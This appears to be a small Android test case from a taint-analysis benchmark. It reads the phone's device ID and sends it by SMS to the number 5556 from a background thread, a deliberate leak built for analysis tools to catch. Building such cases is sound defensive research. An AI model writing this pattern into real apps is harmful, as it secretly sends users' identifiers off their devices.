package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** Through a field that a thread reads. */
public class Threaded extends Case {
    volatile String f;
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        f = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        new Thread(new Runnable() { public void run() { SmsManager.getDefault().sendTextMessage("5556", null, f, null, null); } }).start();
    }
}
